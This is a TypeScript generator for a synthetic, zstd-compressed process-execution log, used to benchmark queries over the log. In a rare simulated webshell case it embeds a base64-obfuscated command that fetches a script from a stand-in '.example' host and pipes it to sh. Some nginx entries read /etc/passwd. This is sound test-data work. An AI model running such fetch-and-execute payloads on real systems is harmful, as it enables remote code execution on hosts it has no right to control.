// Generates a realistic precd log for the query benchmark: N commands (a start and, for all but the
// last few still-running ones, an end record), ~0.3 % failed execs, keys in catalogue order
// (recordKeys), timestamps increasing, varied users (~1 % nginx), argv, cwd, parents, terminals.
// Compressed like precd writes it: a zstd stream flushed every few records (precd flushes on a
// timer) and a new frame every 200,000 records (a restart or a reopen after SIGHUP).
//
// Deterministic (seeded PRNG), so every run benchmarks the same bytes.
import { createRequire } from 'node:module';
import { closeSync, openSync, renameSync, writeSync } from 'node:fs';
import { formatTimestamp, recordKeys, type RecordType } from '../../src/schema/index.js';

type ZstdBinding = typeof import('zstd-napi/binding.js');
const zstd = createRequire(import.meta.url)('zstd-napi/binding.js') as ZstdBinding;

export interface GeneratedLog {
  path: string;
  commands: number;
  records: number;
  fails: number;
  bytes: number;
  /** Expected match counts of the benchmark queries, counted while generating. */
  expected: { nginx: number; uidRange: number; base64: number };
}

// mulberry32: small, fast, good enough for test data.
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface User {
  name: string;
  uid: number;
  group: string;
  gid: number;
  weight: number;
  interactive: boolean;
  home: string;
}

// The numeric-range query selects uid 1002..1003 (carol, dave) among the humans 1000..1010.
const USERS: User[] = [
  { name: 'root', uid: 0, group: 'root', gid: 0, weight: 34, interactive: true, home: '/root' },
  { name: 'www-data', uid: 33, group: 'www-data', gid: 33, weight: 12, interactive: false, home: '/var/www' },
  { name: 'postgres', uid: 106, group: 'postgres', gid: 112, weight: 8, interactive: false, home: '/var/lib/postgresql' },
  { name: 'alice', uid: 1000, group: 'alice', gid: 1000, weight: 10, interactive: true, home: '/home/alice' },
  { name: 'bob', uid: 1001, group: 'bob', gid: 1001, weight: 7, interactive: true, home: '/home/bob' },
  { name: 'carol', uid: 1002, group: 'carol', gid: 1002, weight: 4, interactive: true, home: '/home/carol' },
  { name: 'dave', uid: 1003, group: 'dave', gid: 1003, weight: 3, interactive: true, home: '/home/dave' },
  { name: 'erin', uid: 1010, group: 'erin', gid: 1010, weight: 4, interactive: true, home: '/home/erin' },
  { name: 'ci', uid: 1100, group: 'ci', gid: 1100, weight: 8, interactive: false, home: '/srv/ci' },
  { name: 'backup', uid: 34, group: 'backup', gid: 34, weight: 3, interactive: false, home: '/var/backups' },
  { name: 'nobody', uid: 65534, group: 'nogroup', gid: 65534, weight: 2, interactive: false, home: '/nonexistent' },
  { name: 'systemd-network', uid: 998, group: 'systemd-network', gid: 998, weight: 1.5, interactive: false, home: '/' },
  { name: 'nginx', uid: 997, group: 'nginx', gid: 997, weight: 1, interactive: false, home: '/var/lib/nginx' },
];

// Parents never carry the substring-query token ("base64") in their command line, so that
// `grep -c base64` on the raw lines and `prec -q argv~=base64` count the same commands.
const SHELL_PARENTS = [
  { comm: 'bash', exe: '/usr/bin/bash', cmdline: '-bash' },
  { comm: 'bash', exe: '/usr/bin/bash', cmdline: 'bash' },
  { comm: 'zsh', exe: '/usr/bin/zsh', cmdline: '-zsh' },
];
const SYSTEM_PARENTS = [
  { comm: 'systemd', exe: '/usr/lib/systemd/systemd', cmdline: '/sbin/init' },
  { comm: 'cron', exe: '/usr/sbin/cron', cmdline: '/usr/sbin/cron -f' },
  { comm: 'sh', exe: '/usr/bin/dash', cmdline: '/bin/sh -c /usr/local/bin/backup.sh --nightly' },
  { comm: 'python3', exe: '/usr/bin/python3.11', cmdline: '/usr/bin/python3 /srv/ci/runner.py --jobs 4' },
  { comm: 'php-fpm8.2', exe: '/usr/sbin/php-fpm8.2', cmdline: 'php-fpm: pool www' },
  { comm: 'nginx', exe: '/usr/sbin/nginx', cmdline: 'nginx: worker process' },
  { comm: 'postgres', exe: '/usr/lib/postgresql/15/bin/postgres', cmdline: '/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main' },
];

const WORDS = ['config', 'main', 'src', 'lib', 'test', 'deploy', 'report', 'data', 'api', 'web', 'cache', 'index', 'users', 'orders', 'build'];
const HOSTS = ['api.example.com', 'mirror.example.org', 'git.internal', 'metrics.internal:9090', 'cdn.example.net'];

type Rnd = () => number;
const pick = <T>(r: Rnd, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
const int = (r: Rnd, lo: number, hi: number): number => lo + Math.floor(r() * (hi - lo + 1));
const word = (r: Rnd): string => pick(r, WORDS);
const hex = (r: Rnd, n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(r() * 16)];
  return s;
};

/** argv of one command a user of this kind would run; `webshell` makes the rare injected one. */
function commandFor(r: Rnd, u: User, webshell: boolean): { argv: string[]; exe: string; cwd: string } {
  if (webshell) {
    const payload = Buffer.from(`id; uname -a; curl -s http://${hex(r, 8)}.example/x | sh`).toString('base64');
    return { argv: ['sh', '-c', `echo ${payload} | base64 -d | sh`], exe: '/usr/bin/dash', cwd: '/var/www/html' };
  }
  const home = u.home;
  const n = r();
  if (u.name === 'nginx') {
    return pick(r, [
      { argv: ['sh', '-c', 'id'], exe: '/usr/bin/dash', cwd: '/var/www/html' },
      { argv: ['/usr/sbin/nginx', '-t', '-q'], exe: '/usr/sbin/nginx', cwd: '/' },
      { argv: ['sh', '-c', `uname -a; cat /etc/passwd | head -n ${int(r, 1, 40)}`], exe: '/usr/bin/dash', cwd: '/var/www/html' },
      { argv: ['logrotate', '/etc/logrotate.d/nginx'], exe: '/usr/sbin/logrotate', cwd: '/' },
    ]);
  }
  if (u.name === 'postgres') {
    return { argv: ['/usr/lib/postgresql/15/bin/pg_dump', '-Fc', '-d', `${word(r)}_${int(r, 1, 20)}`, '-f', `/var/backups/pg/${hex(r, 6)}.dump`], exe: '/usr/lib/postgresql/15/bin/pg_dump', cwd: '/var/lib/postgresql' };
  }
  if (u.name === 'www-data') {
    return n < 0.5
      ? { argv: ['php', '/var/www/html/artisan', 'queue:work', `--queue=${word(r)}`, '--once'], exe: '/usr/bin/php8.2', cwd: '/var/www/html' }
      : { argv: ['convert', `/var/www/uploads/${hex(r, 12)}.jpg`, '-resize', `${int(r, 100, 1600)}x${int(r, 100, 1200)}`, `/var/www/cache/${hex(r, 12)}.webp`], exe: '/usr/bin/convert-im6.q16', cwd: '/var/www/html' };
  }
  if (n < 0.14) return { argv: ['ls', '-la', `${home}/${word(r)}`], exe: '/usr/bin/ls', cwd: home };
  if (n < 0.26) return { argv: ['git', 'status', '--short'], exe: '/usr/bin/git', cwd: `${home}/${word(r)}` };
  if (n < 0.34) return { argv: ['git', 'log', '--oneline', '-n', String(int(r, 5, 50))], exe: '/usr/bin/git', cwd: `${home}/${word(r)}` };
  if (n < 0.44) return { argv: ['grep', '-rn', pick(r, ['TODO', 'FIXME', 'password', 'error']), `${word(r)}/`], exe: '/usr/bin/grep', cwd: `${home}/${word(r)}` };
  if (n < 0.52) return { argv: ['cat', `/etc/${pick(r, ['hosts', 'resolv.conf', 'fstab', 'os-release'])}`], exe: '/usr/bin/cat', cwd: home };
  if (n < 0.6) return { argv: ['ps', 'aux'], exe: '/usr/bin/ps', cwd: home };
  if (n < 0.7) return { argv: ['curl', '-fsS', `https://${pick(r, HOSTS)}/v1/${word(r)}/${int(r, 1, 99999)}`], exe: '/usr/bin/curl', cwd: home };
  if (n < 0.78) return { argv: ['systemctl', 'status', `${word(r)}.service`, '--no-pager'], exe: '/usr/bin/systemctl', cwd: '/' };
  if (n < 0.86) return { argv: ['python3', `${home}/${word(r)}/${word(r)}.py`, '--limit', String(int(r, 1, 1000))], exe: '/usr/bin/python3.11', cwd: `${home}/${word(r)}` };
  if (n < 0.92) return { argv: ['make', '-j4', word(r)], exe: '/usr/bin/make', cwd: `${home}/${word(r)}` };
  if (n < 0.96) return { argv: ['tar', 'czf', `/var/backups/${word(r)}-${int(r, 1, 9999)}.tgz`, `${home}/${word(r)}`], exe: '/usr/bin/tar', cwd: home };
  return { argv: ['ssh', '-o', 'BatchMode=yes', `deploy@${pick(r, HOSTS)}`, 'uptime'], exe: '/usr/bin/ssh', cwd: home };
}

const CGROUPS_SYSTEM = ['/system.slice/cron.service', '/system.slice/nginx.service', '/system.slice/php8.2-fpm.service', '/system.slice/postgresql@15-main.service', '/system.slice/ci-runner.service'];

function ordered(type: RecordType, values: Record<string, unknown>): string {
  const out: Record<string, unknown> = {};
  for (const k of recordKeys(type)) {
    const v = values[k];
    if (v !== undefined) out[k] = v;
  }
  return JSON.stringify(out);
}

/** A min-heap of pending end records keyed by end time (ns offset from the log's start). */
class EndHeap {
  private items: { at: number; line: (tsNs: number) => string }[] = [];
  get size(): number {
    return this.items.length;
  }
  peek(): number {
    return this.items.length ? this.items[0]!.at : Infinity;
  }
  push(at: number, line: (tsNs: number) => string): void {
    const a = this.items;
    a.push({ at, line });
    let i = a.length - 1;
    while (i > 0) {
      const p = (i - 1) >> 1;
      if (a[p]!.at <= a[i]!.at) break;
      [a[p], a[i]] = [a[i]!, a[p]!];
      i = p;
    }
  }
  pop(): { at: number; line: (tsNs: number) => string } {
    const a = this.items;
    const top = a[0]!;
    const last = a.pop()!;
    if (a.length) {
      a[0] = last;
      let i = 0;
      for (;;) {
        const l = 2 * i + 1;
        const rr = l + 1;
        let m = i;
        if (l < a.length && a[l]!.at < a[m]!.at) m = l;
        if (rr < a.length && a[rr]!.at < a[m]!.at) m = rr;
        if (m === i) break;
        [a[m], a[i]] = [a[i]!, a[m]!];
        i = m;
      }
    }
    return top;
  }
}

/** zstd stream writer: flush() makes everything so far decodable, endFrame() closes the frame. */
class ZstdFile {
  private cctx = new zstd.CCtx();
  private out = Buffer.alloc(1 << 20);
  private pending: string[] = [];
  bytes = 0;
  constructor(private fd: number, level: number) {
    this.cctx.setParameter(zstd.CParameter.compressionLevel, level);
  }
  write(line: string): void {
    this.pending.push(line);
  }
  private drive(op: number): void {
    let src: Buffer = Buffer.from(this.pending.join(''));
    this.pending = [];
    for (;;) {
      const [left, produced, consumed] = this.cctx.compressStream2(this.out, src, op);
      if (produced > 0) {
        writeSync(this.fd, this.out, 0, produced);
        this.bytes += produced;
      }
      src = src.subarray(consumed);
      if (src.length === 0 && left === 0) break;
    }
  }
  flush(): void {
    this.drive(zstd.EndDirective.flush);
  }
  endFrame(): void {
    this.drive(zstd.EndDirective.end);
  }
}

export function generateLog(path: string, commands: number, seed = 20261122): GeneratedLog {
  const r = prng(seed);
  const totalWeight = USERS.reduce((s, u) => s + u.weight, 0);
  const pickUser = (): User => {
    let x = r() * totalWeight;
    for (const u of USERS) {
      x -= u.weight;
      if (x <= 0) return u;
    }
    return USERS[0]!;
  };
  const baseNs = 1_793_491_200_000_000_000n; // 2026-11-01T00:00:00Z
  const offsetMinutes = 60; // a host in UTC+01:00
  const ts = (offNs: number): string => formatTimestamp(baseNs + BigInt(Math.round(offNs)), offsetMinutes);
  const bootId = '20261101000000';

  const tmp = `${path}.tmp`;
  const fd = openSync(tmp, 'w', 0o640);
  const z = new ZstdFile(fd, 3);
  const ends = new EndHeap();
  let records = 0;
  let fails = 0;
  let seq = 0;
  let pid = 3000;
  let now = 0; // ns since baseNs
  let sinceFlush = 0;
  let flushEvery = int(r, 1, 64);
  const expected = { nginx: 0, uidRange: 0, base64: 0 };
  const emit = (line: string): void => {
    z.write(line + '\n');
    records++;
    if (++sinceFlush >= flushEvery) {
      z.flush();
      sinceFlush = 0;
      flushEvery = int(r, 1, 64);
    }
    if (records % 200_000 === 0) z.endFrame();
  };
  const sessions = new Map<string, number>();

  for (let c = 0; c < commands; c++) {
    now += -Math.log(1 - r()) * 250e6; // exponential gaps, mean 250 ms: ~4 commands/s
    while (ends.peek() <= now) {
      const e = ends.pop();
      emit(e.line(e.at));
    }
    const u = pickUser();
    const webshell = (u.name === 'www-data' || u.name === 'nginx') && r() < 0.03;
    const cmd = commandFor(r, u, webshell);
    const interactive = u.interactive && r() < 0.6;
    const parent = interactive ? pick(r, SHELL_PARENTS) : pick(r, SYSTEM_PARENTS);
    pid = pid >= 4_194_000 ? 3000 : pid + int(r, 1, 7);
    const ppid = interactive ? 1000 + (u.uid % 500) * 7 : int(r, 300, 2900);
    const ptsN = u.uid % 8;
    const tty = interactive ? `/dev/pts/${ptsN}` : undefined;
    const ttyNr = interactive ? 34816 + ptsN : undefined;
    let sessionId: number | undefined;
    if (interactive) {
      sessionId = sessions.get(u.name) ?? int(r, 1, 5000);
      sessions.set(u.name, sessionId);
    }
    const id = `${bootId}-${++seq}`;
    const failed = r() < 0.003;
    const comm = cmd.exe.slice(cmd.exe.lastIndexOf('/') + 1).slice(0, 15);
    const common: Record<string, unknown> = {
      timestamp: ts(now),
      event_id: id,
      uid: u.uid,
      gid: u.gid,
      euid: u.uid,
      egid: u.gid,
      auid: interactive ? u.uid : undefined,
      session_id: sessionId,
      user: u.name,
      group: u.group,
      pid,
      ppid,
      comm: failed ? parent.comm : comm,
      exe: cmd.exe,
      cwd: cmd.cwd,
      argv: cmd.argv,
      argc: cmd.argv.length,
      cgroup: interactive ? `/user.slice/user-${u.uid}.slice/session-${sessionId}.scope` : pick(r, CGROUPS_SYSTEM),
      tty,
      tty_nr: ttyNr,
      source: interactive ? 'user' : 'system',
      parent_comm: parent.comm,
      parent_exe: parent.exe,
      parent_cmdline: parent.cmdline,
      parent_tty: tty,
      parent_tty_nr: ttyNr,
    };
    if (u.name === 'nginx') expected.nginx++;
    if (u.uid >= 1002 && u.uid < 1004) expected.uidRange++;
    if (webshell) expected.base64++;
    if (failed) {
      fails++;
      emit(ordered('fail', { ...common, record_type: 'fail', exec_errno: 2, exec_error: 'no such file or directory' }));
      continue;
    }
    emit(ordered('start', { ...common, record_type: 'start' }));
    const d = r();
    const durNs = d < 0.7 ? int(r, 1, 30) * 1e6 + int(r, 0, 999_999) : d < 0.95 ? int(r, 30, 5000) * 1e6 : int(r, 5, 1800) * 1e9;
    const killed = r() < 0.002;
    const status = killed ? 137 : r() < 0.04 ? int(r, 1, 2) : 0;
    const source = common.source;
    const startPid = pid;
    // Commands still running when the log ends have no end record, as in a live log.
    ends.push(now + durNs, (at) =>
      ordered('end', {
        timestamp: ts(at),
        event_id: id,
        pid: startPid,
        source,
        record_type: 'end',
        duration_ns: durNs,
        exit_status: status,
        signal: killed ? 'SIGKILL' : undefined,
      }),
    );
  }
  z.endFrame();
  closeSync(fd);
  renameSync(tmp, path);
  return { path, commands, records, fails, bytes: z.bytes, expected };
}
